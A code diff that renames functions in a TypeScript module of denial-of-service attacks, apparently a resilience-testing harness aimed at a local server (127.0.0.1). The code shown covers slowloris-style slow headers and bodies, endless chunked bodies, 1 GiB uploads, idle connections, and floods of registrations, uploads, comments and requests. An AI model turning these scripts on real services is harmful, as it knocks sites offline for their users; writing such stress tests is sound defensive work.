@@ -53,8 +53,8 @@ interface Script {
   readonly pause: number;
 }
 
-/** Keeps `width` connections open that send the script, and reopens closed ones. */
-async function speak(options: AttackOptions, script: Script): Promise<EndCounts> {
+/** Sends the script over `width` connections and reopens those that the server closes. */
+async function runScript(options: AttackOptions, script: Script): Promise<EndCounts> {
   const { port, addresses, seconds, minAnswers = 0, width } = options;
   const ends: EndCounts = {};
   const ending = new AbortController();
@@ -64,7 +64,7 @@ async function speak(options: AttackOptions, script: Script): Promise<EndCounts>
     const ended = Object.values(ends).reduce((sum, number) => sum + number, 0);
     if (performance.now() >= endTime && ended >= minAnswers) ending.abort();
   }, 50);
-  async function connection(worker: number): Promise<void> {
+  async function openConnection(worker: number): Promise<void> {
     const { promise, resolve } = Promise.withResolvers<void>();
     const localAddress = pick(addresses, worker);
     const socket = connect({ host: '127.0.0.1', port, localAddress }, () => {
@@ -79,8 +79,8 @@ async function speak(options: AttackOptions, script: Script): Promise<EndCounts>
       else if (script.pause > 0) setTimeout(sendNext, script.pause);
       else setImmediate(sendNext);
     }
-    const leave = () => socket.destroy();
-    signal.addEventListener('abort', leave);
+    const close = () => socket.destroy();
+    signal.addEventListener('abort', close);
     socket.on('data', (chunk) => {
       if (hasResponse) return;
       hasResponse = true;
@@ -91,7 +91,7 @@ async function speak(options: AttackOptions, script: Script): Promise<EndCounts>
     socket.on('error', () => undefined);
     socket.on('close', () => {
       if (!hasResponse) count(ends, signal.aborted ? 'still open' : 'closed');
-      signal.removeEventListener('abort', leave);
+      signal.removeEventListener('abort', close);
       resolve();
     });
     return promise;
@@ -99,7 +99,7 @@ async function speak(options: AttackOptions, script: Script): Promise<EndCounts>
   await Promise.all(
     Array.from({ length: width }, async (_, worker) => {
       while (!signal.aborted) {
-        await connection(worker);
+        await openConnection(worker);
         await sleep(100);
       }
     }),
@@ -131,7 +131,7 @@ function form(
   };
 }
 
-function somebody(turn: number): Record<string, string> {
+function createRegistration(turn: number): Record<string, string> {
   const mark = `${process.pid.toString(36)}${turn}`;
   return {
     name: `Nobody ${mark}`,
@@ -150,25 +150,25 @@ export async function attack(options: AttackOptions): Promise<EndCounts> {
   const { victim, player, tokens, pictures, pages } = options;
   switch (options.attack) {
     case 'slow headers':
-      return speak(options, {
+      return runScript(options, {
         start: 'GET / HTTP/1.1\r\nhost: tifo\r\nx-slow: ',
         next: 'a',
         pause: 1000,
       });
     case 'slow bodies':
-      return speak(options, {
+      return runScript(options, {
         start: head(`${api}/users/login`, 'content-length: 2000', 'application/json'),
         next: ' ',
         pause: 1000,
       });
     case 'endless bodies':
-      return speak(options, {
+      return runScript(options, {
         start: head(registerPath, 'transfer-encoding: chunked', 'application/json'),
         next: chunk,
         pause: 0,
       });
     case '1 GiB bodies':
-      return speak(options, {
+      return runScript(options, {
         start: `${head(registerPath, `content-length: ${2 ** 30}`, 'multipart/form-data; boundary=abuse')}--abuse\r\ncontent-disposition: form-data; name="image"; filename="a.jpg"\r\n\r\n`,
         next: filler,
         pause: 0,
@@ -183,7 +183,7 @@ export async function attack(options: AttackOptions): Promise<EndCounts> {
       return flood(options, (turn) => ({
         method: 'POST',
         path: registerPath,
-        body: JSON.stringify(somebody(turn)),
+        body: JSON.stringify(createRegistration(turn)),
       }));
     case 'forgot flood':
       return flood(options, () => ({
@@ -193,7 +193,7 @@ export async function attack(options: AttackOptions): Promise<EndCounts> {
       }));
     case 'upload flood': {
       const file = Buffer.alloc(maxImage, 0xff);
-      const sent = form(somebody(0), file);
+      const sent = form(createRegistration(0), file);
       return flood(options, () => ({ method: 'POST', path: registerPath, ...sent }));
     }
     case 'share picture flood':
@@ -205,7 +205,7 @@ export async function attack(options: AttackOptions): Promise<EndCounts> {
       return flood(options, (turn) => ({
         method: 'POST',
         path: registerPath,
-        ...form(somebody(turn), file),
+        ...form(createRegistration(turn), file),
       }));
     }
     case 'picture flood': {
@@ -225,7 +225,7 @@ export async function attack(options: AttackOptions): Promise<EndCounts> {
         body: JSON.stringify({ comment: 'Buy now!', rating: 1 }),
       }));
     case 'idle connections':
-      return speak(options, { start: '', next: '', pause: 60_000 });
+      return runScript(options, { start: '', next: '', pause: 60_000 });
     case 'saturating requests':
     case 'request flood':
       return flood(options, (turn) => ({ path: `${api}/users/byName/ro?page=${1 + (turn % 20)}` }));
